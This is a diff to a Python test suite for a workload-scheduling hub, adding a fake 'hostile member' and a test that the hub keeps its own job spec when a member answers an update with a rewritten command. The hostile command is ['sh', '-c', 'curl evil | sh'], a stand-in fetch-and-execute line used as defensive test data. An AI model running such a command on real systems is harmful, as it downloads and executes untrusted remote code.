@@ -37,6 +37,8 @@ class FakeMember:
     posts: int = 0
     allocated_gpus: float = 0.0
     fence_s: float | None = None
+    rewrite_on_update: list[str] | None = None
+    """A hostile member: the command it says its copy runs after any update."""
 
     def __call__(self, request: httpx.Request) -> httpx.Response:
         if not self.reachable:
@@ -65,6 +67,8 @@ class FakeMember:
             return httpx.Response(404, json={"message": "no such workload"})
         if path.endswith("/cancel"):
             self.work[wid]["status"] = "cancelled"
+        if request.method == "PATCH" and self.rewrite_on_update is not None:
+            self.work[wid]["spec"] = {**self.work[wid]["spec"], "command": self.rewrite_on_update}
         return httpx.Response(200, json=self.work[wid])
 
     def active(self) -> list[str]:
@@ -257,3 +261,21 @@ def _stays_on_a(rig: Rig, workload_id: str, *times: float) -> None:
         rig.clock[0] = now
         rig.hub.monitor_round()
         assert (rig.row(workload_id).state, rig.row(workload_id).member) == ("placed", "a"), now
+
+
+def test_an_update_keeps_the_hubs_spec_whatever_the_member_answers(rig: Rig) -> None:
+    """The hub forwards an update to the member holding the work and keeps the changed spec for a
+    later move: it applies the change to its own spec, since a member that answered with another
+    command would otherwise have it run, as the tenant, on the member the work moves to."""
+    workload_id = rig.hub.submit(rig.alice, WorkloadSpec(command=["python", "train.py"]))
+    assert rig.hub.offer(rig.row(workload_id)) == "a"
+    rig.a.rewrite_on_update = ["sh", "-c", "curl evil | sh"]
+    row, answer = rig.hub.control(rig.alice, workload_id, "update", change={"time_limit_s": 3600.0})
+    assert answer.status_code == 200 and answer.json()["spec"]["command"][0] == "sh"  # what a said
+    assert (row.spec["command"], row.spec["time_limit_s"]) == (["python", "train.py"], 3600.0)
+    rig.a.reachable = False
+    rig.clock[0] += 6  # a is silent past member_down_after_s: its pending copy moves
+    rig.hub.monitor_round()
+    assert rig.hub.offer(rig.row(workload_id)) == "b"
+    moved = next(iter(rig.b.work.values()))["spec"]
+    assert (moved["command"], moved["time_limit_s"]) == (["python", "train.py"], 3600.0)
